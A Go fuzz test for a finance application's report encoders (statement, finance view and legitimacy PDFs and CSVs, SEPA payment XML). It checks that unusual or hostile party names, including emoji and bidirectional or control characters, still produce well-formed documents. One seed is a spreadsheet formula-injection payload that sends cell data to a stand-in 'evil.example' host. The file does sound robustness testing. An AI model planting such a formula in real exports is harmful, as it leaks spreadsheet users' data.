package reports_test

import (
	"bytes"
	"encoding/json"
	"encoding/xml"
	"io"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ontschot/ontschot/ledger"
	"github.com/ontschot/ontschot/ledger/sheet"
	"github.com/ontschot/ontschot/reports"
)

// namesSeed is the seed corpus of FuzzDocumentNames: what the issue saw
// break the documents, and what else names hold in the real world. Each
// seed mixes several kinds, since every one costs a statement with its
// chart.
var namesSeed = []string{
	"Woonbedrijf 🏠",
	"👨\u200d👩\u200d👧 Gezinshuis 👍🏽 🏘️ 𝕎𝕠𝕠𝕟 𐍈𐌰 \U0001F1F3\U0001F1F1 \U0010FFFF",
	"Cafe\u0301 a\u0301\u0302\u0303\u0304 בית הלל مؤسسة الإسكان 中文 한국어 ไทย हिन्दी",
	"\ufffd Woonbedrijf \u202eLN\u202c \u2066x\u2069\u200f\nregel\r\n\tregel\x00\x07\x1b[2J\x7f\u0085\u2028 \xff\xfe",
	`=HYPERLINK("http://evil.example/?"&A1,"Klik");-1+1`,
	"",
	strings.Repeat("Woonbedrijf 🏠 ", 400),
	strings.Repeat("\u0301", 2000),
}

// FuzzDocumentNames feeds a name through every document encoder: the
// partner statement (PDF with its chart, CSV, JSON), the finance view (PDF,
// CSV), the legitimacy report (PDF, CSV) and the SEPA payment file (where
// the name is taken into the SEPA character set). None may panic or fail,
// and each must be well formed: the PDF starts with %PDF- and ends with
// %%EOF and draws no character the font lacks, the CSV and the XML parse,
// the JSON is valid.
// Run as a test, it tries the seed corpus; make fuzz runs it for longer.
func FuzzDocumentNames(f *testing.F) {
	for _, s := range namesSeed {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, name string) {
		s := fixedStatement()
		s.Pot.Name = name
		s.Recipient.Name = name
		s.Funding[0].Partner = name
		s.Categories[0].Label = name
		s.Recovered[1].Source = name
		s.Receivables[0].Party = name
		s.Months[0].Month = name // a label of the chart
		var pdf bytes.Buffer
		texts, err := reports.StatementPDFUncompressed(&pdf, s)
		checkPDF(t, "statement PDF", pdf.Bytes(), err)
		checkDrawn(t, texts)
		checkCSVs(t, "statement CSV", func(w io.Writer, d sheet.Dialect) error { return reports.StatementCSV(w, s, d) })
		j, err := json.Marshal(s)
		if err != nil || !json.Valid(j) {
			t.Fatalf("statement JSON: %v", err)
		}

		v := fixedFinanceView()
		v.PotName = name
		v.Lines[0].TaakveldName = name
		v.Parties[0].Party = name
		v.Receivables[0].Party = name
		v.Unallocated[0].Band = name
		pdf.Reset()
		texts, err = reports.FinanceViewPDFUncompressed(&pdf, v)
		checkPDF(t, "finance view PDF", pdf.Bytes(), err)
		checkDrawn(t, texts)
		checkCSVs(t, "finance view CSV", func(w io.Writer, d sheet.Dialect) error { return reports.FinanceViewCSV(w, v, d) })

		l := fixedLegitimacy()
		l.PotName = name
		l.Exceptions[0].Category = name
		l.Exceptions[0].DeviatesFrom = []string{name, name}
		l.Exceptions[0].DecidedBy = name
		l.Exceptions[0].Mandate = name
		l.Exceptions[0].Findings = []string{name}
		pdf.Reset()
		texts, err = reports.LegitimacyPDFUncompressed(&pdf, l)
		checkPDF(t, "legitimacy PDF", pdf.Bytes(), err)
		checkDrawn(t, texts)
		checkCSVs(t, "legitimacy CSV", func(w io.Writer, d sheet.Dialect) error { return reports.LegitimacyCSV(w, l, d) })

		b := fixedBatch()
		b.Items[0].Payee.Name = name
		b.Groups[0].PotName = name
		b.Groups[0].Debtor.Name = name
		b.Groups[0].Debtor.Town = name
		var x bytes.Buffer
		if err := reports.Pain001(&x, b); err != nil {
			t.Fatalf("payment file: %v", err)
		}
		d := xml.NewDecoder(&x)
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("the payment file does not parse: %v", err)
			}
		}
	})
}

// checkPDF fails unless a PDF was written whole.
func checkPDF(t *testing.T, what string, out []byte, err error) {
	t.Helper()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	if !bytes.HasPrefix(out, []byte("%PDF-")) || !bytes.HasSuffix(bytes.TrimRight(out, "\r\n"), []byte("%%EOF")) {
		t.Fatalf("%s is not a whole PDF (%d bytes)", what, len(out))
	}
}

// checkDrawn fails when a text reached the PDF with a character the
// documents never draw: beyond the Basic Multilingual Plane (fpdf's
// panic), a bidirectional control, or a control character.
func checkDrawn(t *testing.T, texts []string) {
	t.Helper()
	for _, s := range texts {
		if !utf8.ValidString(s) {
			t.Fatalf("the PDF drew %q, not UTF-8", s)
		}
		for _, r := range s {
			if r > 0xFFFF || r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 {
				t.Fatalf("the PDF drew %U in %q", r, s)
			}
		}
	}
}

// checkCSVs fails unless the CSV is written in every dialect and each
// parses, read back in the separator its first line shows.
func checkCSVs(t *testing.T, what string, write func(io.Writer, sheet.Dialect) error) {
	t.Helper()
	for _, d := range sheet.Dialects {
		var b bytes.Buffer
		if err := write(&b, d); err != nil {
			t.Fatalf("%s (%v): %v", what, d, err)
		}
		r, err := sheet.NewReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		r.FieldsPerRecord = -1
		if _, err := r.ReadAll(); err != nil || r.Dialect != d {
			t.Fatalf("%s (%v) does not parse: %v (read as %v)", what, d, err, r.Dialect)
		}
	}
}

// TestEmojiInNames is the case: a party named "Woonbedrijf 🏠"
// made the statement and the finance view answer 500 with a panic. The
// documents are made, the emoji drawn as a square, and a note says what
// the square means.
func TestEmojiInNames(t *testing.T) {
	s := fixedStatement()
	s.Pot.Name = "Doorbraakfonds 🏠"
	s.Receivables[0].Party = "Woonbedrijf 🏠"
	var pdf bytes.Buffer
	texts, err := reports.StatementPDFUncompressed(&pdf, s)
	checkPDF(t, "statement PDF", pdf.Bytes(), err)
	all := strings.Join(texts, "\n")
	for _, want := range []string{"Woonbedrijf □", "Kwartaalverantwoording Doorbraakfonds □", "□ staat voor een teken dat het lettertype"} {
		if !strings.Contains(all, want) || !containsText(pdf.Bytes(), want) {
			t.Errorf("the statement does not show %q", want)
		}
	}
	v := fixedFinanceView()
	v.Parties[0].Party = "Woonbedrijf 🏠"
	pdf.Reset()
	texts, err = reports.FinanceViewPDFUncompressed(&pdf, v)
	checkPDF(t, "finance view PDF", pdf.Bytes(), err)
	if all := strings.Join(texts, "\n"); !strings.Contains(all, "Toegerekend aan Woonbedrijf □") {
		t.Errorf("the finance view does not show the party: %q", all)
	}
	// Without a square, no note.
	pdf.Reset()
	texts, _ = reports.StatementPDFUncompressed(&pdf, fixedStatement())
	if strings.Contains(strings.Join(texts, "\n"), "□") {
		t.Error("a statement without emoji explains the square")
	}
	var _ ledger.Cents
}
